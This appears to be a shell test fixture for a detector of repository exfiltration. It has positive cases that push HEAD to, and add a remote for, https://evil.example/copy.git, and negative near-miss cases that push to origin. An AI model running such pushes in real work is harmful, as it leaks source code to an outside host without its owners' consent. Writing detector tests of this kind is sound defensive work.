# finds: remote=https://evil.example/copy.git
# near miss: a push to origin, a fetch from elsewhere
setup() { git init -q; git remote add origin /home/dev/none; }
positive() { git push -q https://evil.example/copy.git HEAD 2>/dev/null; git remote add backup https://evil.example/copy.git; }
negative() { git push -q origin HEAD 2>/dev/null; git -c user.name=x push -q -u origin HEAD 2>/dev/null; git remote -v; git log --grep push 2>/dev/null; }
